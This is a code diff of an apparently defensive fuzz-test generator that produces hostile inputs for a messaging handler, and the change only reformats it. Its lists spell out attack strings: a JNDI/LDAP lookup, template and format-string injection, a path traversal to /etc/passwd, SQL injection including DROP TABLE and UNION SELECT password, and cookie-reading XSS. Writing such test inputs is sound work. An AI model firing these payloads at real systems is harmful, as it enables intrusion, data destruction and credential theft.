@@ -25,8 +25,15 @@ INJECTIONS = [
     "{{7*7}} ${jndi:ldap://x/a} %s%s%s%n {contact} {0}",
     "../../../../etc/passwd",
 ]
-SQL = ["' OR '1'='1", "1; DROP TABLE exchanges; --", "SELECT * FROM handoffs WHERE 1=1", "admin'--",
-       "' UNION SELECT password FROM users --", "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>"]
+SQL = [
+    "' OR '1'='1",
+    "1; DROP TABLE exchanges; --",
+    "SELECT * FROM handoffs WHERE 1=1",
+    "admin'--",
+    "' UNION SELECT password FROM users --",
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+]
 INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u202e\u2066\u2069\u180e"
 MARKUP = ["<http:", "<https://x.de|", "<@U", "<#C1|", "<!here>", "*_~`", "&lt;&gt;&amp;"]
 
@@ -70,14 +77,17 @@ def generate(count: int, seed: int = 12) -> list[Hostile]:
         lambda: Hostile("binary", _noise(rng, rng.randrange(1, 3000))),
         lambda: Hostile("invisible", _invisible(rng, rng.randrange(1, 500)).encode()),
         lambda: Hostile("surrogates", _surrogates(rng, rng.randrange(1, 50))),
-        lambda: Hostile("huge", (rng.choice(MARKUP + ["wort ", "a.", "\u0301"]) * 45_000).encode()[:rng.randrange(
-            40_001 * 2, 200_000)]),
+        lambda: Hostile(
+            "huge",
+            (rng.choice(MARKUP + ["wort ", "a.", "\u0301"]) * 45_000).encode()[: rng.randrange(40_001 * 2, 200_000)],
+        ),
         lambda: Hostile("flood", (rng.choice(MARKUP) * rng.randrange(100, 6000)).encode()),
         lambda: Hostile("injection", rng.choice(INJECTIONS).encode()),
         lambda: Hostile("sql", (rng.choice(SQL) + rng.choice(["", " \r ", "\x00", " -- x"])).encode()),
         lambda: Hostile("zalgo", ("Darf ich posten" + "\u0301\u0316\u0300" * rng.randrange(10, 3000)).encode()),
-        lambda: Hostile("control", bytes(rng.randrange(0, 32) for _ in range(rng.randrange(1, 300))).replace(
-            b"\n", b"\r")),
+        lambda: Hostile(
+            "control", bytes(rng.randrange(0, 32) for _ in range(rng.randrange(1, 300))).replace(b"\n", b"\r")
+        ),
         lambda: Hostile("sensitive", _wrap(rng, rng.choice(SENSITIVE).encode()), sensitive=True),
     ]
     return [makers[i % len(makers)]() for i in range(count)]
